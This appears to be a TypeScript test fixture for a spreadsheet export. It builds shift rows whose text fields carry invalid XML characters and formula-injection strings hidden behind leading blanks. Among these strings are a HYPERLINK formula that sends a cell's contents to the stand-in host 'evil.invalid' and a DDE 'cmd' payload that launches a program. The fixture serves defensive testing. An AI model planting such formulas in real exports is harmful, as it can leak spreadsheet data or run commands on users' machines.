// The rows of the `hostileTextRate` fault: valid rows (they must be exported) whose texts carry
// what breaks a spreadsheet — characters XML 1.0 cannot hold (U+FFFE, U+FFFF, unpaired
// surrogates, NUL and other C0 controls, DEL) and formulas behind leading blanks that a trimming
// importer would evaluate (` =1+1`, `\u00a0=HYPERLINK(…)`, `\u3000@SUM(1)`, a zero-width space or
// a BOM before `=`). JSON.stringify writes the controls and the unpaired surrogates as \u escapes
// and U+FFFE/U+FFFF as their UTF-8 bytes, as a real upstream's serialiser would.

import type { FinishedShift } from 'wfm-contract/finished-shift';

/** The comments of hostile rows: one per variant (taken modulo their number). */
export const HOSTILE_COMMENTS: readonly string[] = [
  'Shift note \uFFFE with a noncharacter',
  'Ends with U+FFFF\uFFFF',
  'Lone high surrogate \uD83D here',
  '\uDE00 lone low surrogate first',
  'NUL\u0000inside',
  '\u0000=1+1',
  'Bell\u0007, escape\u001B, backspace\u0008, form feed\u000C, vertical tab\u000B',
  'DEL\u007F and C1 controls \u0085\u009F (both legal XML)',
  ' =1+1',
  '\u00a0=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
  '\u3000@SUM(1)',
  "\u200b=cmd|' /C calc'!A0",
  '\uFEFF+1+1',
  '\n-2+3',
  '  \t=tab after spaces',
  '\u2028\u2060@channel',
  '\uFFFE=1+1 after a noncharacter',
  '\u0001\u0002\u0003\u0004\u0005\u0006\u000E\u000F\u0010\u001F',
  'Emoji kept 🎉 beside a lone \uD800 surrogate',
  '   plain text after spaces',
];

/** What hostile rows append to the user's name and put into the shop's address, per variant. */
const NAME_SUFFIXES: readonly string[] = ['\uFFFF', '\u0000', '\uDBFF', '\u007F', '', '\u001B'];
const ADDRESSES: readonly string[] = [' =SUM(A1:A9)', '\u00a0-1', 'Main street 1\uFFFE', '\u3000+7 999'];

/** A copy of `row` carrying hostile text (variant taken modulo the number of comments). */
export function hostileRow(row: FinishedShift, variant: number): FinishedShift {
  const v = Math.abs(Math.trunc(variant));
  return {
    ...row,
    user_display_name: row.user_display_name + (NAME_SUFFIXES[v % NAME_SUFFIXES.length] ?? ''),
    shop_address: ADDRESSES[v % ADDRESSES.length] ?? null,
    comment: HOSTILE_COMMENTS[v % HOSTILE_COMMENTS.length] ?? null,
  };
}
